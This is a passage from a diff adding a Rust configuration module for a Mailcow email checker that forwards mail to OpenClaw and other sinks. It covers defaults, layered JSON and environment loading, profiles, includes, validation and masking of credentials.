@@ -0,0 +1,1124 @@
+//! Checker configuration: defaults, optional JSON config file, then
+//! environment variables, in increasing order of precedence.
+
+use std::collections::BTreeMap;
+use std::env;
+use std::error::Error;
+use std::fmt;
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::Duration;
+
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+
+use crate::alert::AlertConfig;
+use crate::apprise;
+use crate::archive::ArchiveConfig;
+use crate::auth::Mechanism;
+use crate::classify::ClassifyConfig;
+use crate::contacts::ContactsConfig;
+use crate::crypto::DecryptionConfig;
+use crate::collapse::CollapseConfig;
+use crate::diff::DiffConfig;
+use crate::dns::DnsConfig;
+use crate::email::PayloadConfig;
+use crate::expect::ExpectationsConfig;
+use crate::growth::GrowthConfig;
+use crate::ha::HaConfig;
+use crate::heartbeat::HeartbeatConfig;
+use crate::http::ConnectionConfig;
+use crate::log::LoggingConfig;
+use crate::man;
+use crate::pipeline::PipelineConfig;
+use crate::push::Service;
+use crate::python::PythonConfig;
+use crate::mailcow::MailcowApiConfig;
+use crate::mdn::MdnConfig;
+use crate::metrics::MetricsConfig;
+use crate::redact::{self, RedactionConfig, Redactor};
+use crate::remote::{self, RemoteConfig};
+use crate::retention::{self, RetentionConfig};
+use crate::rules::Rule;
+use crate::scan::ScanConfig;
+use crate::schema;
+use crate::schedule::{AdaptiveConfig, JitterConfig};
+use crate::secrets::{self, SecretProvider, SecretString};
+use crate::sieve::SieveConfig;
+use crate::sink::{AckConfig, Gateway, SinkConfig};
+use crate::trace::TracingConfig;
+use crate::transport::TlsConfig;
+use crate::trigger::TriggerConfig;
+use crate::unsubscribe::UnsubscribeConfig;
+use crate::update::UpdateConfig;
+use crate::watchdog::Watchdog;
+
+pub const DEFAULT_CHECK_INTERVAL: usize = 300;
+pub const DEFAULT_MIN_CHECK_INTERVAL: usize = 10;
+pub const DEFAULT_MESSAGE_TIMEOUT: u64 = 60;
+pub const DEFAULT_OPENCLAW_PORT: usize = 18789;
+pub const DEFAULT_SECRET_REFRESH_INTERVAL: usize = 3600;
+pub const DEFAULT_UNUSED_RULE_DAYS: u64 = 30;
+
+/// Keys a `behavior_file` may set. Everything else, in particular
+/// credentials, sinks, file locations and the commands `scan` runs,
+/// stays with the main file. `redaction` is only safe here because it
+/// can add patterns but not remove the built-in ones, and the configured
+/// secrets are masked whatever it says.
+pub const BEHAVIOR_KEYS: &[&str] = &[
+    "rules",
+    "unused_rule_days",
+    "payload",
+    "check_interval",
+    "adaptive",
+    "message_timeout",
+    "latency_slo",
+    "alerts",
+    "growth",
+    "watchdogs",
+    "redaction",
+    "retention",
+];
+
+/// Environment variable naming the config file (overridden by `--config`).
+pub const CONFIG_FILE_ENV: &str = "EMAIL_CHECKER_CONFIG";
+/// Environment variable selecting a profile (overridden by `--profile`).
+pub const PROFILE_ENV: &str = "EMAIL_CHECKER_PROFILE";
+
+/// Whether configs are loaded strictly; see [`set_strict`].
+static STRICT: AtomicBool = AtomicBool::new(false);
+
+/// With `strict`, loading a config fails on keys the schema does not
+/// know and on environment variables that look like a misspelt one the
+/// checker reads, e.g. `MAILCOW_USRNAME`, instead of ignoring them
+/// (`--strict-config`).
+pub fn set_strict(strict: bool) {
+    STRICT.store(strict, Ordering::Relaxed);
+}
+
+/// Whether invalid numbers in the environment fall back to defaults; see
+/// [`set_lenient`].
+static LENIENT: AtomicBool = AtomicBool::new(false);
+
+/// With `lenient`, an environment variable such as `MAILCOW_IMAP_PORT=abc`
+/// silently becomes the default again, as it used to, instead of failing
+/// the load (`--lenient`).
+pub fn set_lenient(lenient: bool) {
+    LENIENT.store(lenient, Ordering::Relaxed);
+}
+
+/// Environment variable `name`'s `value` through `parse`, or `default`
+/// if it does not parse and loading is lenient.
+fn parse_env<T>(name: &str, value: &str, default: T, parse: fn(&str) -> Result<T, String>) -> Result<T, String> {
+    match parse(value.trim()) {
+        Ok(parsed) => Ok(parsed),
+        Err(_) if LENIENT.load(Ordering::Relaxed) => Ok(default),
+        Err(e) => Err(format!("{}: {}", name, e)),
+    }
+}
+
+fn number<T: std::str::FromStr>(value: &str) -> Result<T, String> {
+    value.parse().map_err(|_| format!("'{}' is not a valid number", value))
+}
+
+fn duration_seconds(value: &str) -> Result<usize, String> {
+    retention::parse_duration(value).map(|duration| duration.as_secs() as usize)
+}
+
+/// Seconds given as a number or as a duration string such as `5m`.
+pub fn seconds<'de, D: serde::Deserializer<'de>>(deserializer: D) -> Result<usize, D::Error> {
+    match Value::deserialize(deserializer)? {
+        Value::Number(n) => n.as_u64().map(|n| n as usize).ok_or_else(|| serde::de::Error::custom("invalid seconds")),
+        Value::String(s) => duration_seconds(&s).map_err(serde::de::Error::custom),
+        other => Err(serde::de::Error::custom(format!("expected seconds or a duration, found {}", other))),
+    }
+}
+
+/// Which implementation runs the check cycle.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Backend {
+    #[default]
+    Native,
+    /// Delegate to the Python checker; see [`crate::python`].
+    Python,
+}
+
+#[derive(Deserialize, Serialize, Clone)]
+#[serde(default)]
+pub struct Config {
+    /// Section of `profiles` merged over the rest of the file, e.g.
+    /// `prod`; see [`Config::from_file`].
+    pub profile: Option<String>,
+    /// Where the rest of the config is fetched from; see [`crate::remote`].
+    pub remote: RemoteConfig,
+    /// ETag of the remote document this config was built from.
+    #[serde(skip)]
+    pub remote_etag: Option<String>,
+    /// File this config was loaded from, for reloading it.
+    #[serde(skip)]
+    pub config_file: Option<String>,
+    pub mailcow_imap_host: String,
+    pub mailcow_imap_port: usize,
+    pub mailcow_username: String,
+    pub mailcow_password: SecretString,
+    /// `login`, `plain`, `cram-md5`, `ntlm` or `xoauth2`; negotiated from
+    /// the server's capabilities when unset.
+    pub auth_mechanism: Option<Mechanism>,
+    /// Provider the password is fetched from; set by writing an object
+    /// such as `{"vault": "secret/mailcow#password"}` as `mailcow_password`.
+    pub mailcow_password_provider: Option<SecretProvider>,
+    /// Folders to check, with `/` between levels, e.g. `Entwürfe` or
+    /// `INBOX/Support`; see [`crate::imap::Namespaces::server_name`].
+    /// `*` and `%` match like in IMAP LIST, e.g. `INBOX/*`.
+    pub folders: Vec<String>,
+    /// Seconds between re-fetches from the provider, to pick up rotations.
+    pub secret_refresh_interval: usize,
+    pub openclaw_gateway: String,
+    pub openclaw_port: usize,
+    /// Gateways to fail over between, replacing `openclaw_gateway`; see
+    /// [`crate::sink::Failover`].
+    pub openclaw_gateways: Vec<Gateway>,
+    /// Keep-alive and client certificates for sink connections.
+    pub connections: ConnectionConfig,
+    /// What counts as a delivery; see [`AckConfig`].
+    pub ack: AckConfig,
+    /// Stages each message passes through; see [`crate::pipeline`].
+    pub pipeline: PipelineConfig,
+    /// Sender lookup for the `enrich` stage; see [`crate::contacts`].
+    pub contacts: ContactsConfig,
+    /// Labelling for the `classify` stage; see [`crate::classify`].
+    pub classify: ClassifyConfig,
+    /// Seconds between cycles, or a duration such as `5m` or `90s`.
+    #[serde(deserialize_with = "seconds")]
+    pub check_interval: usize,
+    /// Shortest `check_interval` and `adaptive.min_interval` accepted, so
+    /// a slip like `1` does not poll the server every second. Only the
+    /// main config file sets it, not the behavior file.
+    #[serde(deserialize_with = "seconds")]
+    pub min_check_interval: usize,
+    pub adaptive: AdaptiveConfig,
+    pub last_check_file: String,
+    /// Delivered-message state; see [`crate::state`]. Empty disables it.
+    pub state_file: String,
+    /// Separate, usually encrypted, file whose keys override this one.
+    pub secrets_file: Option<String>,
+    /// User-editable file with rules and other [`BEHAVIOR_KEYS`]; it cannot
+    /// set credentials, so editing it needs no access to them.
+    pub behavior_file: Option<String>,
+    /// Accounts to poll, each given as keys merged over this config; see
+    /// [`Config::accounts`]. Without any, this config is the one account.
+    pub accounts: Vec<Value>,
+    /// Named delivery targets; `openclaw` always exists implicitly.
+    pub sinks: BTreeMap<String, SinkConfig>,
+    /// Routing rules, evaluated in order; the first match wins.
+    pub rules: Vec<Rule>,
+    /// Days without a match before a rule is reported as unused; 0 never.
+    pub unused_rule_days: u64,
+    /// Server-side filtering compiled from the rules; see [`crate::sieve`].
+    pub sieve: SieveConfig,
+    pub payload: PayloadConfig,
+    pub redaction: RedactionConfig,
+    pub decryption: DecryptionConfig,
+    pub archive: ArchiveConfig,
+    pub retention: RetentionConfig,
+    pub backend: Backend,
+    pub python: PythonConfig,
+    /// Prometheus text file rewritten after every cycle.
+    pub metrics_file: Option<String>,
+    pub metrics: MetricsConfig,
+    /// Hash-chained record of every delivery; see [`crate::audit`].
+    pub audit_log: Option<String>,
+    /// Seconds a message may take to parse before it is quarantined.
+    pub message_timeout: u64,
+    /// Maildir receiving copies of quarantined messages.
+    pub quarantine_dir: Option<String>,
+    /// Maximum time from arrival to delivery before a warning, e.g. `"10m"`.
+    pub latency_slo: Option<String>,
+    pub scan: ScanConfig,
+    pub ha: HaConfig,
+    pub alerts: AlertConfig,
+    pub heartbeat: HeartbeatConfig,
+    pub tracing: TracingConfig,
+    pub logging: LoggingConfig,
+    #[cfg(feature = "sentry")]
+    pub sentry: crate::sentry::SentryConfig,
+    pub mailcow_api: MailcowApiConfig,
+    pub tls: TlsConfig,
+    pub dns: DnsConfig,
+    /// Where `self-update` looks for releases; see [`crate::update`].
+    pub update: UpdateConfig,
+    pub trigger: TriggerConfig,
+    pub mdn: MdnConfig,
+    pub unsubscribe: UnsubscribeConfig,
+    pub collapse: CollapseConfig,
+    pub diff: DiffConfig,
+    pub jitter: JitterConfig,
+    pub growth: GrowthConfig,
+    /// Mail expected regularly; see [`crate::watchdog`].
+    pub watchdogs: Vec<Watchdog>,
+    pub expectations: ExpectationsConfig,
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            profile: None,
+            remote: RemoteConfig::default(),
+            remote_etag: None,
+            config_file: None,
+            mailcow_imap_host: "localhost".to_string(),
+            mailcow_imap_port: 993,
+            mailcow_username: "".to_string(),
+            mailcow_password: SecretString::default(),
+            auth_mechanism: None,
+            mailcow_password_provider: None,
+            folders: vec![crate::checker::INBOX.to_string()],
+            secret_refresh_interval: DEFAULT_SECRET_REFRESH_INTERVAL,
+            openclaw_gateway: "localhost".to_string(),
+            openclaw_port: DEFAULT_OPENCLAW_PORT,
+            openclaw_gateways: Vec::new(),
+            connections: ConnectionConfig::default(),
+            ack: AckConfig::default(),
+            pipeline: PipelineConfig::default(),
+            contacts: ContactsConfig::default(),
+            classify: ClassifyConfig::default(),
+            check_interval: DEFAULT_CHECK_INTERVAL,
+            min_check_interval: DEFAULT_MIN_CHECK_INTERVAL,
+            adaptive: AdaptiveConfig::default(),
+            last_check_file: "/home/hijirii/.openclaw/workspace/.last_email_check".to_string(),
+            state_file: "/home/hijirii/.openclaw/workspace/.email_checker_state.json".to_string(),
+            secrets_file: None,
+            behavior_file: None,
+            accounts: Vec::new(),
+            sinks: BTreeMap::new(),
+            rules: Vec::new(),
+            unused_rule_days: DEFAULT_UNUSED_RULE_DAYS,
+            sieve: SieveConfig::default(),
+            payload: PayloadConfig::default(),
+            redaction: RedactionConfig::default(),
+            decryption: DecryptionConfig::default(),
+            archive: ArchiveConfig::default(),
+            retention: RetentionConfig::default(),
+            backend: Backend::Native,
+            python: PythonConfig::default(),
+            metrics_file: None,
+            metrics: MetricsConfig::default(),
+            audit_log: None,
+            message_timeout: DEFAULT_MESSAGE_TIMEOUT,
+            quarantine_dir: None,
+            latency_slo: None,
+            scan: ScanConfig::default(),
+            ha: HaConfig::default(),
+            alerts: AlertConfig::default(),
+            heartbeat: HeartbeatConfig::default(),
+            tracing: TracingConfig::default(),
+            logging: LoggingConfig::default(),
+            #[cfg(feature = "sentry")]
+            sentry: crate::sentry::SentryConfig::default(),
+            mailcow_api: MailcowApiConfig::default(),
+            tls: TlsConfig::default(),
+            dns: DnsConfig::default(),
+            update: UpdateConfig::default(),
+            trigger: TriggerConfig::default(),
+            mdn: MdnConfig::default(),
+            unsubscribe: UnsubscribeConfig::default(),
+            collapse: CollapseConfig::default(),
+            diff: DiffConfig::default(),
+            jitter: JitterConfig::default(),
+            growth: GrowthConfig::default(),
+            watchdogs: Vec::new(),
+            expectations: ExpectationsConfig::default(),
+        }
+    }
+}
+
+/// The fields of [`Config::masked`].
+impl fmt::Debug for Config {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "Config {}", self.masked())
+    }
+}
+
+/// [`Config::masked`] as indented JSON.
+impl fmt::Display for Config {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{:#}", self.masked())
+    }
+}
+
+impl Config {
+    /// Parse a JSON config file. Missing keys keep their defaults.
+    ///
+    /// `${VAR}` references and `include`s are expanded, see
+    /// [`read_config_json`]. With a `profile` (the argument, else the
+    /// file's own `profile` key) its section of the `profiles` object is
+    /// merged over the file, so one file can hold several environments.
+    /// The [`remote`] document is merged over the result, then the
+    /// `behavior_file` it points to, then the
+    /// `secrets_file` over both; a `profiles` section there applies too.
+    /// Each may be encrypted with age or sops; see
+    /// [`secrets::read_decrypted`].
+    pub fn from_file(path: &str, profile: Option<&str>) -> Result<Self, Box<dyn Error>> {
+        let mut value = read_config_json(path, 0)?;
+        let profile = profile.map(str::to_string).or_else(|| value.get("profile").and_then(Value::as_str).map(str::to_string));
+        if let Some(name) = &profile {
+            let mut section = take_profile(&mut value, name).ok_or_else(|| format!("{}: no profile '{}'", path, name))?;
+            interpolate(&mut section).map_err(|e| format!("{}: profile '{}': {}", path, name, e))?;
+            merge(&mut value, section);
+            value["profile"] = Value::String(name.clone());
+        }
+        let mut remote_etag = None;
+        if let Some(section) = value.get("remote") {
+            let remote: RemoteConfig = serde_json::from_value(section.clone()).map_err(|e| format!("{}: remote: {}", path, e))?;
+            if let Some(url) = &remote.url {
+                let document = remote::load(&remote)?;
+                let mut fetched: Value = serde_json::from_str(&document.body).map_err(|e| format!("{}: {}", url, e))?;
+                if fetched.get("remote").is_some() {
+                    return Err(format!("{}: 'remote' cannot be set in the remote config", url).into());
+                }
+                if let Some(map) = fetched.as_object_mut() {
+                    map.remove("version");
+                }
+                interpolate(&mut fetched).map_err(|e| format!("{}: {}", url, e))?;
+                merge(&mut value, fetched);
+                remote_etag = document.etag;
+            }
+        }
+        if let Some(behavior_path) = value.get("behavior_file").and_then(Value::as_str) {
+            let behavior = read_json(behavior_path)?;
+            let mut keys = behavior.as_object().into_iter().flat_map(|m| m.keys());
+            if let Some(key) = keys.find(|k| !BEHAVIOR_KEYS.contains(&k.as_str())) {
+                return Err(format!("{}: '{}' cannot be set in the behavior file", behavior_path, key).into());
+            }
+            merge(&mut value, behavior);
+        }
+        if let Some(secrets_path) = value.get("secrets_file").and_then(Value::as_str) {
+            warn_if_shared(secrets_path);
+            let mut secrets = read_json(secrets_path)?;
+            if let Some(section) = profile.as_deref().and_then(|name| take_profile(&mut secrets, name)) {
+                merge(&mut secrets, section);
+            }
+            merge(&mut value, secrets);
+        }
+        password_provider(&mut value);
+        if STRICT.load(Ordering::Relaxed) {
+            reject_unknown_keys(&value).map_err(|e| format!("{}: {}", path, e))?;
+        }
+        let mut config: Config = serde_json::from_value(value).map_err(|e| format!("{}: {}", path, e))?;
+        config.remote_etag = remote_etag;
+        config.config_file = Some(path.to_string());
+        Ok(config)
+    }
+
+    /// The config of every account: each entry of `accounts` merged over
+    /// this config, with `{account}` in `state_file` replaced by its
+    /// `mailcow_username`, or this config alone if there are none.
+    /// Secrets are left unresolved.
+    pub fn accounts(&self) -> Result<Vec<Config>, Box<dyn Error>> {
+        if self.accounts.is_empty() {
+            return Ok(vec![self.clone()]);
+        }
+        let base = serde_json::to_value(Config { accounts: Vec::new(), ..self.clone() })?;
+        let mut configs: Vec<Config> = Vec::new();
+        for (i, overrides) in self.accounts.iter().enumerate() {
+            let mut value = base.clone();
+            if overrides.get("mailcow_password").is_some() {
+                value["mailcow_password_provider"] = Value::Null;
+            }
+            merge(&mut value, overrides.clone());
+            password_provider(&mut value);
+            let mut account: Config = serde_json::from_value(value).map_err(|e| format!("accounts[{}]: {}", i, e))?;
+            account.state_file = account.state_file.replace("{account}", &account.mailcow_username);
+            account.remote_etag.clone_from(&self.remote_etag);
+            account.config_file.clone_from(&self.config_file);
+            let name = account.mailcow_username.clone();
+            account.validate().map_err(|e| format!("account {}: {}", name, e))?;
+            if let Some(other) = configs.iter().find(|c| !c.state_file.is_empty() && c.state_file == account.state_file) {
+                return Err(format!(
+                    "accounts {} and {} share state_file {}; use {{account}} in its name",
+                    other.mailcow_username, name, account.state_file
+                )
+                .into());
+            }
+            configs.push(account);
+        }
+        Ok(configs)
+    }
+
+    /// Fetch the remote document again and, if it changed, load the whole
+    /// config anew; `None` if it did not change.
+    pub fn reload_if_changed(&self) -> Result<Option<Config>, Box<dyn Error>> {
+        if remote::fetch(&self.remote, self.remote_etag.as_deref())?.is_none() {
+            return Ok(None);
+        }
+        Ok(Some(load_config_unresolved(self.config_file.as_deref(), self.profile.as_deref())?))
+    }
+
+    /// Fetch the password from its provider, if one is configured.
+    /// Returns whether the value changed.
+    pub fn resolve_secrets(&mut self) -> Result<bool, Box<dyn Error>> {
+        let Some(provider) = &self.mailcow_password_provider else {
+            return Ok(false);
+        };
+        let password = SecretString::from(provider.resolve().map_err(|e| format!("mailcow_password: {}", e))?);
+        let changed = password != self.mailcow_password;
+        self.mailcow_password = password;
+        Ok(changed)
+    }
+
+    /// This config as JSON with every credential masked: the values under
+    /// credential keys such as `password` or `Authorization`, including
+    /// in `accounts`, and anywhere else [`Config::redactor`] would mask,
+    /// such as a heartbeat URL holding its token.
+    pub fn masked(&self) -> Value {
+        let value = serde_json::to_value(self).unwrap_or_default();
+        self.redactor().redact_value(&redact::mask_credentials(&value))
+    }
+
+    /// Redactor masking this config's credentials and sink headers.
+    pub fn redactor(&self) -> Redactor {
+        let mut redactor = Redactor::new(&self.redaction);
+        redactor.add_secret(self.mailcow_password.expose());
+        redactor.add_secret(self.mailcow_api.api_key.expose());
+        redactor.add_secret(self.payload.pseudonym_key.expose());
+        // Ping URLs embed the check's token.
+        for url in [&self.heartbeat.url, &self.heartbeat.failure_url].into_iter().flatten() {
+            redactor.add_secret(url.expose());
+        }
+        if let Some(password) = &self.contacts.carddav_password {
+            redactor.add_secret(password.expose());
+        }
+        if let Some(s3) = &self.archive.s3 {
+            redactor.add_secret(s3.access_key.expose());
+            redactor.add_secret(s3.secret_key.expose());
+        }
+        #[cfg(feature = "sentry")]
+        if let Some(dsn) = &self.sentry.dsn {
+            redactor.add_secret(dsn.expose());
+            if let Ok(parsed) = crate::sentry::Dsn::parse(dsn.expose()) {
+                redactor.add_secret(parsed.key.expose());
+            }
+        }
+        let headers = [&self.tracing.headers, &self.remote.headers, &self.contacts.headers, &self.classify.headers];
+        for value in headers.into_iter().flat_map(|h| h.values()) {
+            redactor.add_secret(value.expose());
+        }
+        for sink in self.sinks.values() {
+            match sink {
+                SinkConfig::Webhook { headers, .. } => {
+                    headers.values().for_each(|value| redactor.add_secret(value.expose()));
+                }
+                SinkConfig::Sms(sms) => {
+                    sms.token.iter().map(SecretString::expose).for_each(|token| redactor.add_secret(token));
+                    sms.headers.values().for_each(|value| redactor.add_secret(value.expose()));
+                }
+                SinkConfig::Ntfy(push) | SinkConfig::Gotify(push) => {
+                    push.token.iter().for_each(|token| redactor.add_secret(token.expose()));
+                }
+                // Apprise URLs embed their tokens.
+                SinkConfig::Apprise { urls } => urls.iter().for_each(|url| redactor.add_secret(url.expose())),
+                SinkConfig::Redis(redis) => redis.password.iter().for_each(|p| redactor.add_secret(p.expose())),
+                SinkConfig::Rabbitmq(rabbitmq) => redactor.add_secret(rabbitmq.password.expose()),
+                SinkConfig::Sql(sql) => sql.password.iter().for_each(|p| redactor.add_secret(p.expose())),
+                #[cfg(feature = "kafka")]
+                SinkConfig::Kafka(kafka) => {
+                    kafka.headers.values().for_each(|value| redactor.add_secret(value.expose()));
+                }
+                #[cfg(feature = "nats")]
+                SinkConfig::Nats(nats) => {
+                    nats.password.iter().chain(&nats.token).for_each(|value| redactor.add_secret(value.expose()));
+                }
+                _ => {}
+            }
+        }
+        redactor
+    }
+
+    pub fn latency_slo(&self) -> Result<Option<Duration>, String> {
+        self.latency_slo.as_deref().map(retention::parse_duration).transpose()
+    }
+
+    /// Check cross references that serde cannot, such as rule sinks.
+    pub fn validate(&self) -> Result<(), String> {
+        if self.folders.is_empty() {
+            return Err("folders must name at least one folder".to_string());
+        }
+        if self.check_interval < self.min_check_interval {
+            return Err(format!(
+                "check_interval of {}s is below min_check_interval ({}s)",
+                self.check_interval, self.min_check_interval
+            ));
+        }
+        if self.adaptive.enabled && self.adaptive.min_interval < self.min_check_interval {
+            return Err(format!(
+                "adaptive.min_interval of {}s is below min_check_interval ({}s)",
+                self.adaptive.min_interval, self.min_check_interval
+            ));
+        }
+        self.trigger.validate()?;
+        for rule in &self.rules {
+            rule.validate()?;
+            if rule.sink != crate::sink::DEFAULT_SINK && !self.sinks.contains_key(&rule.sink) {
+                return Err(format!("rule '{}' targets unknown sink '{}'", rule.name, rule.sink));
+            }
+        }
+        for (i, watchdog) in self.watchdogs.iter().enumerate() {
+            if watchdog.within == 0 {
+                return Err(format!("watchdog '{}': within must be more than 0", watchdog.name));
+            }
+            if self.watchdogs[..i].iter().any(|other| other.name == watchdog.name) {
+                return Err(format!("watchdog '{}' is defined twice", watchdog.name));
+            }
+        }
+        if let Some(sink) = &self.alerts.sink {
+            if sink != crate::sink::DEFAULT_SINK && !self.sinks.contains_key(sink) {
+                return Err(format!("alerts target unknown sink '{}'", sink));
+            }
+        }
+        let sink = &self.expectations.sink;
+        if sink != crate::sink::DEFAULT_SINK && !self.sinks.contains_key(sink) {
+            return Err(format!("expectations target unknown sink '{}'", sink));
+        }
+        if let Some(sink) = &self.mdn.sink {
+            if sink != crate::sink::DEFAULT_SINK && !self.sinks.contains_key(sink) {
+                return Err(format!("mdn.sink targets unknown sink '{}'", sink));
+            }
+        }
+        if self.payload.minimize && self.payload.pseudonym_key.is_empty() {
+            return Err("payload.minimize requires payload.pseudonym_key".to_string());
+        }
+        if self.connections.client_cert.is_some() != self.connections.client_key.is_some() {
+            return Err("connections.client_cert and connections.client_key must be set together".to_string());
+        }
+        if self.ack.field.as_ref().is_some_and(|field| !field.starts_with('/')) {
+            return Err("ack.field must be a JSON pointer such as /accepted".to_string());
+        }
+        if self.ack.receipt.as_ref().is_some_and(|field| !field.starts_with('/')) {
+            return Err("ack.receipt must be a JSON pointer such as /receipt/id".to_string());
+        }
+        if self.ack.receipt.is_some() && self.state_file.is_empty() {
+            return Err("ack.receipt requires state_file".to_string());
+        }
+        if self.ack.reconcile {
+            if self.state_file.is_empty() {
+                return Err("ack.reconcile requires state_file".to_string());
+            }
+            // Pruned delivery records would make old mail look unacknowledged.
+            if self.retention.max_age()?.is_some_and(|age| age.as_secs() < self.ack.reconcile_window) {
+                return Err("ack.reconcile_window must not exceed retention.retain".to_string());
+            }
+        }
+        for (name, sink) in &self.sinks {
+            let valid = match sink {
+                SinkConfig::Sms(sms) => sms.validate(),
+                SinkConfig::Ntfy(push) => push.validate(Service::Ntfy),
+                SinkConfig::Gotify(push) => push.validate(Service::Gotify),
+                SinkConfig::Apprise { urls } => urls.iter().enumerate().try_for_each(|(i, url)| {
+                    apprise::target(url.expose()).map(|_| ()).map_err(|e| format!("urls[{}]: {}", i, e))
+                }),
+                SinkConfig::Digest(digest) => digest.validate(&self.sinks),
+                _ => Ok(()),
+            };
+            valid.map_err(|e| format!("sink '{}': {}", name, e))?;
+        }
+        if let Some(label) = self.metrics.labels.iter().find(|label| !["account", "rule"].contains(&label.as_str())) {
+            return Err(format!("metrics.labels: unknown label '{}'; expected account or rule", label));
+        }
+        if crate::log::facility(&self.logging.facility).is_none() {
+            return Err(format!("logging.facility: unknown syslog facility '{}'", self.logging.facility));
+        }
+        self.pipeline.validate()?;
+        if self.contacts.allowlist {
+            if self.contacts.csv.is_none() && self.contacts.carddav.is_none() {
+                return Err("contacts.allowlist requires contacts.csv or contacts.carddav".to_string());
+            }
+            if !self.pipeline.has(crate::pipeline::Stage::Enrich) {
+                return Err("contacts.allowlist requires the enrich pipeline stage".to_string());
+            }
+        }
+        self.retention.max_age()?;
+        self.retention.max_bytes()?;
+        self.latency_slo()?;
+        Ok(())
+    }
+}
+
+/// Fail on the keys of `value`, at any depth, that no config accepts,
+/// suggesting the key each was probably meant to be.
+fn reject_unknown_keys(value: &Value) -> Result<(), String> {
+    let unknown: Vec<String> = schema::unknown_keys(value)
+        .into_iter()
+        .map(|(key, suggestion)| match suggestion {
+            Some(suggestion) => format!("unknown key '{}'; did you mean '{}'?", key, suggestion),
+            None => format!("unknown key '{}'", key),
+        })
+        .collect();
+    if unknown.is_empty() {
+        Ok(())
+    } else {
+        Err(unknown.join("; "))
+    }
+}
+
+/// Fail on a set environment variable a couple of edits away from one
+/// the checker reads, which is almost certainly a typo of it.
+fn reject_misspelt_env() -> Result<(), String> {
+    let known: Vec<&str> = man::ENVIRONMENT
+        .iter()
+        .map(|(name, _)| *name)
+        .chain([CONFIG_FILE_ENV, PROFILE_ENV, secrets::AGE_IDENTITY_ENV])
+        .collect();
+    for (name, _) in env::vars_os() {
+        let Some(name) = name.to_str() else {
+            continue;
+        };
+        if known.contains(&name) {
+            continue;
+        }
+        if let Some(meant) = schema::closest(name, known.iter().copied(), 2) {
+            return Err(format!("unknown environment variable {}; did you mean {}?", name, meant));
+        }
+    }
+    Ok(())
+}
+
+/// How deeply `include`d files may include others.
+const MAX_INCLUDE_DEPTH: usize = 8;
+
+/// Read a main config file: expand `${VAR}` in its strings, then merge
+/// the files its `include` list names over it, in order. Globs match
+/// file names (`rules.d/*.json`) and relative paths are taken from the
+/// including file's directory. Included `rules` are appended rather than
+/// replacing the list.
+fn read_config_json(path: &str, depth: usize) -> Result<Value, Box<dyn Error>> {
+    let mut value = read_json(path)?;
+    // Only the selected profile is expanded, later, so the others may
+    // reference variables this host does not set.
+    let profiles = value.as_object_mut().and_then(|map| map.remove("profiles"));
+    interpolate(&mut value).map_err(|e| format!("{}: {}", path, e))?;
+    if let Some(profiles) = profiles {
+        value["profiles"] = profiles;
+    }
+    let Some(include) = value.as_object_mut().and_then(|map| map.remove("include")) else {
+        return Ok(value);
+    };
+    if depth >= MAX_INCLUDE_DEPTH {
+        return Err(format!("{}: includes nested more than {} deep", path, MAX_INCLUDE_DEPTH).into());
+    }
+    let patterns: Vec<String> =
+        serde_json::from_value(include).map_err(|_| format!("{}: include must be a list of paths", path))?;
+    let dir = Path::new(path).parent().unwrap_or(Path::new(""));
+    for pattern in patterns {
+        for file in expand_glob(&dir.join(&pattern)).map_err(|e| format!("{}: include '{}': {}", path, pattern, e))? {
+            let mut included = read_config_json(&file.to_string_lossy(), depth + 1)?;
+            if let (Some(Value::Array(base)), Some(Value::Array(extra))) =
+                (value.get_mut("rules"), included.as_object_mut().and_then(|m| m.remove("rules")))
+            {
+                base.extend(extra);
+            }
+            merge(&mut value, included);
+        }
+    }
+    Ok(value)
+}
+
+/// Replace `${VAR}` and `${VAR:-default}` in every string with the
+/// environment variable's value. An unset variable without a default is
+/// an error.
+fn interpolate(value: &mut Value) -> Result<(), String> {
+    match value {
+        Value::String(text) if text.contains("${") => {
+            let mut out = String::with_capacity(text.len());
+            let mut rest = text.as_str();
+            while let Some(start) = rest.find("${") {
+                let end = rest[start..].find('}').ok_or_else(|| format!("unterminated '${{' in '{}'", text))?;
+                out.push_str(&rest[..start]);
+                let expr = &rest[start + 2..start + end];
+                let (name, default) = match expr.split_once(":-") {
+                    Some((name, default)) => (name, Some(default)),
+                    None => (expr, None),
+                };
+                match (env::var(name), default) {
+                    (Ok(v), _) => out.push_str(&v),
+                    (Err(_), Some(default)) => out.push_str(default),
+                    (Err(_), None) => return Err(format!("environment variable {} is not set", name)),
+                }
+                rest = &rest[start + end + 1..];
+            }
+            out.push_str(rest);
+            *text = out;
+        }
+        Value::Array(items) => items.iter_mut().try_for_each(interpolate)?,
+        Value::Object(map) => map.values_mut().try_for_each(interpolate)?,
+        _ => {}
+    }
+    Ok(())
+}
+
+/// Files matching `pattern`, whose last component may contain `*` and
+/// `?`, sorted by name. A pattern without wildcards must exist.
+fn expand_glob(pattern: &Path) -> Result<Vec<PathBuf>, String> {
+    let name = pattern.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
+    if !name.contains(['*', '?']) {
+        return match pattern.exists() {
+            true => Ok(vec![pattern.to_path_buf()]),
+            false => Err("no such file".to_string()),
+        };
+    }
+    let dir = pattern.parent().filter(|d| !d.as_os_str().is_empty()).unwrap_or(Path::new("."));
+    let wildcards: Vec<char> = name.chars().collect();
+    let matches = |path: &PathBuf| {
+        let name: Vec<char> = path.file_name().unwrap_or_default().to_string_lossy().chars().collect();
+        path.is_file() && wildcard_match(&wildcards, &name)
+    };
+    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
+        .map_err(|e| format!("{}: {}", dir.display(), e))?
+        .filter_map(|entry| entry.ok().map(|e| e.path()))
+        .filter(matches)
+        .collect();
+    files.sort();
+    Ok(files)
+}
+
+fn wildcard_match(pattern: &[char], name: &[char]) -> bool {
+    match (pattern.first(), name.first()) {
+        (None, _) => name.is_empty(),
+        (Some('*'), _) => wildcard_match(&pattern[1..], name) || (!name.is_empty() && wildcard_match(pattern, &name[1..])),
+        (Some(p), Some(n)) if *p == '?' || p == n => wildcard_match(&pattern[1..], &name[1..]),
+        _ => false,
+    }
+}
+
+fn read_json(path: &str) -> Result<Value, Box<dyn Error>> {
